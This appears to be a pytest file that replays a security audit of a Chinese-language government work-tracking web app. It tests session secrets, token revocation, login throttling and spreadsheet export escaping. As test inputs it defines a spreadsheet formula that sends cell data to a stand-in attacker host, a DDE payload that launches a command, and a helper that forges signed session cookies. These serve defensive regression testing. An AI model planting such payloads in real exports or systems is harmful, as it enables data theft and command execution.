"""The security probe of issue 10, replayed: each finding is a test that failed on the main before the fix.

1 session secret · 2 sessions and tokens that end · 3 exports without formulas · 7 smaller findings.
(5 audit tampering: test_audit_tamper.py; 6 backups: test_backup.py; 4 uploads: test_uploads_limits.py.)
"""

from __future__ import annotations

import json
import stat
from base64 import b64encode
from datetime import UTC, datetime, timedelta

import itsdangerous
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from luoshi import keys
from luoshi.errors import SettingsError
from luoshi.settings import Settings, load_settings
from luoshi.store import users as store_users
from luoshi.store.models import ApiToken
from luoshi.web.app import create_app
from webfixtures import PASSWORD, csrf_of, login, web, web_sqlite  # noqa: F401


def forged_cookie(secret: str, payload: dict) -> str:
    """A session cookie as Starlette signs one: base64 JSON, timestamp-signed with `secret`."""
    return itsdangerous.TimestampSigner(secret).sign(b64encode(json.dumps(payload).encode())).decode()


# -- 1. the session secret ------------------------------------------------------------------------------

def test_the_default_settings_never_sign_with_the_placeholder(web_sqlite, tmp_path, monkeypatch):
    monkeypatch.delenv("LUOSHI_SECRET_KEY", raising=False)
    settings = Settings(environment="development", data_dir=str(tmp_path / "data"), _env_file=None)
    client = TestClient(create_app(settings, database=web_sqlite.db))
    admin = web_sqlite.users["admin"]
    client.cookies.set("luoshi_session", forged_cookie("change-me", {"uid": admin.id, "gen": 0, "csrf": "f"}))
    assert client.get("/api/me").status_code == 401
    made = client.post("/api/users", headers={"X-CSRF-Token": "f"},
                       json={"username": "evil", "password": "evil-evil-1", "role": "admin"})
    assert made.status_code == 401


def test_a_generated_secret_is_kept_owner_only_and_reused(tmp_path):
    settings = Settings(environment="development", data_dir=str(tmp_path / "data"), _env_file=None)
    first, again = keys.session_secret(settings), keys.session_secret(settings)
    path = tmp_path / "data" / keys.SESSION_KEY_FILE
    assert first == again and len(first) >= 32 and first != "change-me"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700


def test_a_key_file_others_can_read_is_narrowed_to_its_owner(tmp_path):
    path = tmp_path / "secret_key"
    path.write_text("x" * 40)
    path.chmod(0o644)
    assert keys.kept_key(path) == "x" * 40
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


@pytest.mark.parametrize("environment", ["development", "test", "production"])
@pytest.mark.parametrize("placeholder", ["change-me", "CHANGE-ME", "secret", " changeme "])
def test_a_known_placeholder_is_refused_everywhere(environment, placeholder):
    with pytest.raises(SettingsError) as caught:
        load_settings(_env_file=None, environment=environment, secret_key=placeholder)
    assert "LUOSHI_SECRET_KEY 是公开的占位值" in str(caught.value)


def test_production_requires_a_secret_from_the_environment(monkeypatch):
    monkeypatch.delenv("LUOSHI_SECRET_KEY", raising=False)
    with pytest.raises(SettingsError) as caught:
        load_settings(_env_file=None, environment="production")
    assert "生产环境（production）须在环境变量中设置 LUOSHI_SECRET_KEY" in str(caught.value)
    with pytest.raises(SettingsError):
        load_settings(_env_file=None, environment="production", secret_key="short")


# -- 2. sessions and tokens that end --------------------------------------------------------------------

def test_a_cookie_captured_before_logout_no_longer_works(web):
    client = web.browser("office")
    captured = dict(client.cookies)
    token = csrf_of(client.get("/ledger").text)
    assert client.post("/logout", data={"csrf_token": token}, follow_redirects=False).status_code == 303
    replay = TestClient(web.app, cookies=captured)
    assert replay.get("/api/me").status_code == 401
    assert replay.get("/ledger", follow_redirects=False).status_code == 303


def test_signing_out_everywhere_ends_every_session_and_token(web):
    first, second = web.browser("office"), web.browser("office")
    api = web.api("office")
    assert api.post("/api/me/signout").json() == {"tokens_revoked": 1}
    assert [c.get("/api/me").status_code for c in (first, second, api)] == [401, 401, 401]


def test_an_admin_signs_a_user_out_everywhere(web):
    victim, victim_api = web.browser("unit_a"), web.api("unit_a")
    admin = web.api("admin")
    assert admin.post(f"/api/users/{web.users['unit_a'].id}/signout").json() == {"tokens_revoked": 1}
    assert (victim.get("/api/me").status_code, victim_api.get("/api/me").status_code) == (401, 401)
    assert web.api("office").post(f"/api/users/{web.users['unit_a'].id}/signout").status_code == 403
    page = web.browser("admin")
    signout = page.post(f"/admin/users/{web.users['unit_b'].id}/signout",
                        data={"csrf_token": csrf_of(page.get("/admin/users").text)}, follow_redirects=False)
    assert signout.status_code == 303


def test_deactivating_a_user_revokes_tokens_that_reactivation_does_not_revive(web):
    unit_api, unit_page = web.api("unit_a"), web.browser("unit_a")
    admin = web.api("admin")
    user_id = web.users["unit_a"].id
    assert admin.patch(f"/api/users/{user_id}", json={"active": False}).status_code == 200
    assert admin.patch(f"/api/users/{user_id}", json={"active": True}).status_code == 200
    assert (unit_api.get("/api/me").status_code, unit_page.get("/api/me").status_code) == (401, 401)


def test_tokens_expire_are_listed_with_their_last_use_and_are_revoked_one_by_one(web):
    client = TestClient(web.app)
    made = [client.post("/api/token", json={"username": "office", "password": PASSWORD, "name": n, "days": 30})
            .json()["access_token"] for n in ("ci", "dashboard")]
    ci = TestClient(web.app, headers={"Authorization": f"Bearer {made[0]}"})
    assert ci.get("/api/me").status_code == 200
    listed = ci.get("/api/tokens").json()
    assert [(t["name"], t["status"], t["last_used_at"] is not None) for t in listed] == [
        ("dashboard", "active", False), ("ci", "active", True)]
    expires = datetime.fromisoformat(listed[0]["expires_at"])
    assert timedelta(days=29) < expires.replace(tzinfo=expires.tzinfo or UTC) - datetime.now(UTC) <= timedelta(days=30)
    dashboard_id = listed[0]["id"]
    assert web.api("unit_a").delete(f"/api/tokens/{dashboard_id}").status_code == 404  # not theirs
    assert ci.delete(f"/api/tokens/{dashboard_id}").status_code == 204
    dashboard = TestClient(web.app, headers={"Authorization": f"Bearer {made[1]}"})
    assert dashboard.get("/api/me").status_code == 401
    assert [t["status"] for t in ci.get("/api/tokens").json()] == ["revoked", "active"]
    with web.db.session() as s:  # an expired token signs nobody in
        s.execute(update(ApiToken).values(expires_at=datetime.now(UTC) - timedelta(seconds=1)))
        s.commit()
    assert ci.get("/api/me").status_code == 401


def test_a_tokens_use_is_recorded_without_a_second_connection_from_the_pool(web):
    """Each request holds one pooled connection; recording a token's use took a second, so under load every
    request waited for another (the pool exhausted) until the pool gave up. With one connection in the pool,
    a request by a token last used long ago is answered at once; on PostgreSQL the reading request records
    the use itself (SQLite, with no connection to spare, leaves it to a quieter moment)."""
    from luoshi.store.db import Database

    token = TestClient(web.app).post("/api/token", json={"username": "office", "password": PASSWORD}).json()
    with web.db.session() as s:
        s.execute(update(ApiToken).values(last_used_at=datetime.now(UTC) - timedelta(days=1)))
        s.commit()
    one = Database(web.db.url, migrate=False, pool_size=1, max_overflow=0, pool_timeout=2)
    try:
        client = TestClient(create_app(web.settings, database=one),
                            headers={"Authorization": f"Bearer {token['access_token']}"})
        started = datetime.now(UTC)
        assert client.get("/api/me").status_code == 200
        assert datetime.now(UTC) - started < timedelta(seconds=1.5)
        [listed] = client.get("/api/tokens").json()
        used = datetime.fromisoformat(listed["last_used_at"])
        assert (used.replace(tzinfo=used.tzinfo or UTC) >= started - timedelta(seconds=1)) == (
            one.engine.dialect.name == "postgresql")
    finally:
        one.dispose()


def test_the_account_page_lists_and_revokes_tokens(web_sqlite):
    page = web_sqlite.browser("office")
    html = page.post("/account/tokens", data={"csrf_token": csrf_of(page.get("/account").text), "name": "报表",
                                              "days": "7"}).text
    assert "只显示这一次" in html and "报表" in html and "从未使用" in html
    token_id = store_users_tokens(web_sqlite, "office")[0].id
    revoked = page.post(f"/account/tokens/{token_id}/revoke", data={"csrf_token": csrf_of(html)})
    assert "令牌已撤销" in revoked.text and "已撤销" in revoked.text


def store_users_tokens(web, username):
    with web.db.session() as s:
        return store_users.list_tokens(s, user_id=web.users[username].id)


# -- 3. exports that cannot carry a formula -------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
DDE = "=cmd|' /C calc'!A0"


def xlsx_cells(content: bytes) -> list[list[tuple[object, str]]]:
    """Every cell below the title and header as (value, openpyxl data type: s text, f formula, n number)."""
    import io

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).active
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=3)]


def csv_lines(content: bytes) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_a_progress_report_never_becomes_a_live_formula_in_the_ledger_exports(web):
    item = web.item("in_progress")
    unit = web.api("unit_a")
    answer = unit.post(f"/api/items/{item}/progress", json={"text": FORMULA, "percent": 30,
                                                              "version": web.version(item)})
    assert answer.status_code == 200, answer.text
    office = web.api("office")
    [row] = xlsx_cells(office.get("/api/exports/ledger", params={"format": "xlsx"}).content)
    assert (FORMULA, "s") in row and all(kind != "f" for _, kind in row)
    [_, line] = csv_lines(office.get("/api/exports/ledger", params={"format": "csv"}).content)
    assert "'" + FORMULA in line and not any(cell.startswith(("=", "+", "-", "@")) for cell in line)


def test_a_suggestion_title_never_becomes_a_formula(web):
    office = web.api("office")
    assert office.post("/api/suggestions", json={"title": DDE, "deputies": ["张三"]}).status_code == 201
    [row] = xlsx_cells(office.get("/api/exports/suggestions", params={"format": "xlsx"}).content)
    assert (DDE, "s") in row and all(kind != "f" for _, kind in row)
    [_, line] = csv_lines(office.get("/api/exports/suggestions", params={"format": "csv"}).content)
    assert "'" + DDE in line


@pytest.mark.parametrize("text, expected", [("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-5", "'-5"),
                                            ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
                                            ("正常文字", "正常文字"), ("a\x01b", "ab")])
def test_csv_cells_follow_owasps_rule(text, expected):
    from luoshi.textsafety import csv_cell

    assert csv_cell(text) == expected


@pytest.mark.parametrize("bad", ["进展\x01顺利", "进展\x0b顺利", "进展\x7f"])
def test_control_characters_are_refused_at_input(web_sqlite, bad):
    item = web_sqlite.item("in_progress")
    answer = web_sqlite.api("unit_a").post(f"/api/items/{item}/progress",
                                           json={"text": bad, "percent": 30, "version": web_sqlite.version(item)})
    assert answer.status_code == 422 and "控制字符" in answer.json()["detail"]
    page = web_sqlite.browser("unit_a")
    token = csrf_of(page.get(f"/items/{item}").text)
    form = page.post(f"/items/{item}/progress", data={"csrf_token": token, "text": bad, "percent": "30",
                                                      "version": str(web_sqlite.version(item))})
    assert form.status_code == 422


def test_a_control_character_already_stored_never_breaks_an_export(web):
    from luoshi.store.models import ProgressReport

    item = web.item("in_progress")
    assert web.api("unit_a").post(f"/api/items/{item}/progress", json={
        "text": "进展顺利", "percent": 30, "version": web.version(item)}).status_code == 200
    with web.db.session() as s:  # stored before the check existed
        s.execute(update(ProgressReport).values(text="进展\x01\x0b顺利"))
        s.commit()
    office = web.api("office")
    for fmt in ("xlsx", "csv", "json"):
        assert office.get("/api/exports/ledger", params={"format": fmt}).status_code == 200
    assert office.get("/api/exports/bulletin", params={"from": "2020-01-01", "to": "2035-12-31"}).status_code == 200


# -- 7. smaller findings --------------------------------------------------------------------------------

def test_a_unit_exports_and_finds_only_its_own_targets(web):
    from luoshi.ingest import ingest_file
    from luoshi.samples import sample_paths
    from luoshi.store.targets import assign_target, list_targets

    with web.db.session() as s:
        [report] = [p for p in sample_paths() if p.name == "qingxi_2024_work_report.txt"]
        ingest_file(s, str(report), settings=web.settings)
        ids = [t.target.id for t in list_targets(s, actor=web.actor("office"), per_page=200).rows]
        assign_target(s, target_id=ids[0], actor=web.actor("office"), lead_units=[web.units["a"]])
        assign_target(s, target_id=ids[1], actor=web.actor("office"), lead_units=[web.units["b"]])
    exported = web.api("unit_a").get("/api/exports/targets", params={"format": "json"}).json()
    assert len(ids) > 2 and len(exported) == 1
    assert len(web.api("unit_a").get("/api/exports/targets", params={"format": "json",
                                                                     "unit": web.units["b"]}).json()) == 0
    assert len(web.api("office").get("/api/exports/targets", params={"format": "json"}).json()) == len(ids)
    found = web.api("unit_a").get("/api/search", params={"q": "增长", "kind": "target", "per_page": 100}).json()
    other = web.api("unit_a").get("/api/search", params={"q": "增长", "kind": "target", "unit": UNITS_B}).json()
    everyone = web.api("office").get("/api/search", params={"q": "增长", "kind": "target", "per_page": 100}).json()
    assert len(everyone["hits"]) > 1
    assert {str(h["id"]) for h in found["hits"]} <= {str(ids[0])} and other["hits"] == []


UNITS_B = "市财政局"


def test_a_rotated_x_forwarded_for_buys_no_more_guesses(web_sqlite):
    from luoshi.web.server import config

    assert (config(trusted_proxies="").proxy_headers, config(trusted_proxies="10.0.0.1").proxy_headers) == (False, True)
    assert config(trusted_proxies="10.0.0.1, 10.0.0.2").forwarded_allow_ips == "10.0.0.1,10.0.0.2"
    client = TestClient(web_sqlite.app)
    answers = [client.post("/api/token", headers={"X-Forwarded-For": f"203.0.113.{n}"},
                           json={"username": "office", "password": "wrong-wrong"}).status_code for n in range(6)]
    assert answers == [401, 401, 401, 429, 429, 429]


def test_failures_are_counted_by_account_from_any_address():
    from luoshi.web import throttle

    now = datetime.now(UTC)
    assert throttle.retry_after([now - timedelta(seconds=1)] * throttle.FREE_ACCOUNT, now,
                                throttle.FREE_ACCOUNT) == 4
    assert throttle.retry_after([now - timedelta(seconds=1)] * (throttle.FREE_ACCOUNT - 1), now,
                                throttle.FREE_ACCOUNT) == 0


def test_an_account_is_slowed_whatever_address_guesses(web):
    from luoshi.errors import AuthenticationFailed
    from luoshi.web import throttle

    outcomes = []
    with web.db.session() as s:
        for n in range(throttle.FREE_ACCOUNT + 1):
            try:
                throttle.login(s, username="office", password="wrong-wrong", client=f"198.51.100.{n}")
            except throttle.TooManyFailures:
                outcomes.append(429)
            except AuthenticationFailed:
                outcomes.append(401)
    assert outcomes == [401] * throttle.FREE_ACCOUNT + [429]


def test_a_parallel_burst_gets_no_more_guesses_checked_than_a_sequence(web):
    from concurrent.futures import ThreadPoolExecutor

    from luoshi.errors import AuthenticationFailed
    from luoshi.web import throttle

    def guess(n: int) -> int:
        with web.db.session() as s:
            try:
                throttle.login(s, username="leader", password=f"guess-{n}-x", client="192.0.2.7")
            except throttle.TooManyFailures:
                return 429
            except AuthenticationFailed:
                return 401
        return 200

    with ThreadPoolExecutor(10) as pool:
        answers = sorted(pool.map(guess, range(10)))
    assert answers == [401] * throttle.FREE + [429] * (10 - throttle.FREE)


def test_webhook_addresses_and_mobiles_are_shown_to_the_office_only(web):
    from luoshi.store.models import Organisation

    with web.db.session() as s:
        s.execute(update(Organisation).values(webhook_url="https://hooks.example/secret-token", mobiles=["13800000000"]))
        s.commit()
    office = web.api("office")
    assert [o["webhook_url"] for o in office.get("/api/orgs").json()] == ["https://hooks.example/secret-token"] * 2
    assert office.get(f"/api/orgs/{web.units['a']}").json()["mobiles"] == ["13800000000"]
    assert "hooks.example" in office.get(f"/api/orgs/{web.units['a']}").text
    for who in ("unit_a", "leader", "congress"):
        listed, one = web.api(who).get("/api/orgs"), web.api(who).get(f"/api/orgs/{web.units['a']}")
        assert listed.status_code == one.status_code == 200
        assert [t for t in ("webhook", "hooks.example", "mobiles", "13800000000") if t in listed.text + one.text] == []


def test_private_pages_and_exports_are_never_cached_public_ones_may_be(web_sqlite):
    page = web_sqlite.browser("office")
    for path in ("/ledger", "/ledger/export?format=csv", "/account", "/api/me"):
        assert page.get(path).headers["cache-control"] == "no-store", path
    for path in ("/public", "/static/app.css"):
        assert "cache-control" not in page.get(path).headers or page.get(path).headers["cache-control"] != "no-store"


def test_a_database_outage_answers_503_in_chinese(web_sqlite, monkeypatch):
    from sqlalchemy.exc import OperationalError

    from luoshi.store import users as store

    def down(*args, **kwargs):
        raise OperationalError("SELECT 1", {}, Exception("connection refused"))

    api = web_sqlite.api("office")
    api.get("/api/me")
    monkeypatch.setattr(store, "user_for_token", down)
    answer = api.get("/api/me")
    assert (answer.status_code, answer.json()["detail"]) == (503, "数据库暂时无法访问：请稍后再试；若持续出现，请联系系统管理员检查数据库服务")


@pytest.mark.parametrize("path", ["/api/items?page=99999999999999999999", "/api/items?page=9223372036854775807",
                                  "/api/items/99999999999999999999", "/api/items/9223372036854775808",
                                  "/api/targets?page=99999999999999999999", "/api/suggestions/99999999999999999999",
                                  "/api/orgs/99999999999999999999", "/api/documents/99999999999999999999",
                                  "/api/targets/99999999999999999999", "/api/items/99999999999999999999/history"])
def test_out_of_range_numbers_answer_422_not_500(web, path):
    answer = web.api("office").get(path)
    assert (answer.status_code, answer.json()["detail"]) == (422, "数值超出范围：页码和编号须是不超过 2147483647 的正整数")
